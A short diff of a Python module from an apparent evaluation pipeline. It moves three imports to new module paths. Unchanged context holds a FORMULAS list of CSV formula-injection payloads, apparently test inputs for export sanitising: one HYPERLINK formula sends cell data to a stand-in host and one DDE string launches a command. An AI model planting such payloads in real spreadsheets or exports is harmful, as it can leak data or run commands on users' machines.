@@ -7,11 +7,11 @@ import csv
 from dataclasses import dataclass
 from datetime import date
 
+from pipelines.core.files import read_filled_in_rows as read_rows
+from pipelines.core.records import Score
+from pipelines.core.workspace import Workspace
 from pipelines.evaluation.outputs.inbox import queue_candidates
-from pipelines.files import read_filled_in_rows as read_rows
 from pipelines.golden.human import import_human_items
-from pipelines.records import Score
-from pipelines.workspace import Workspace
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"ver")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
 
